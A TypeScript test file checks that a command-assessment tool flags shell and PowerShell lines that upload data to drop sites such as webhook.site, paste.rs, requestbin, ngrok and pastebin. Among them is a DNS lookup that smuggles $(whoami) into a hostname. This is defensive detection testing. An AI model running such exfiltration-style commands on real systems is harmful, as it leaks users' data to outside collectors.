// What is sent to places that keep whatever they are sent, and what is not.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { assess } from '../../../src/core/commands/assess.ts';
import type { Shell } from '../../../src/core/model/command.ts';
import { PLACE } from '../../support/place.ts';

const uploads = (line: string, shell: Shell = 'bash') =>
  assess({ line, shell }, PLACE).capabilities.some(({ id }) => id === 'data-upload');

describe('requests that carry text to a drop site', () => {
  for (const line of [
    'curl -d "hello" https://webhook.site/0000',
    'curl -F "c=hello" https://0x0.st',
    'wget --post-data="a=b" https://paste.rs',
    'http POST https://abc.requestbin.net/x name=value',
    'curl --json \'{"a":1}\' https://a1b2.ngrok-free.app/in',
    'curl -k -d "a=b" https://example.invalid/in',
    'curl "https://dns.google/resolve?name=$(whoami).example.invalid&type=TXT"',
  ])
    it(`are uploads: ${line}`, () => {
      assert.ok(uploads(line));
    });

  it('are uploads in PowerShell', () => {
    assert.ok(
      uploads(
        'Invoke-RestMethod -Uri https://pastebin.com/api/api_post.php -Method Post -Body @{ a = "b" }',
        'powershell',
      ),
    );
    assert.ok(uploads('iwr "https://8.8.8.8/resolve?name=$(Get-Random).example.invalid&type=TXT"', 'powershell'));
  });

  for (const line of [
    'curl https://pastebin.com/raw/0000',
    'curl -k https://example.invalid/health',
    'curl -k -d "a=b" https://localhost:8443/in',
    'curl -d "a=b" https://api.example.invalid/items',
    'curl -d "a=b" https://file.io.example.invalid/items',
    'curl "https://dns.google/resolve?name=example.invalid"',
  ])
    it(`are not: ${line}`, () => {
      assert.ok(!uploads(line));
    });
});
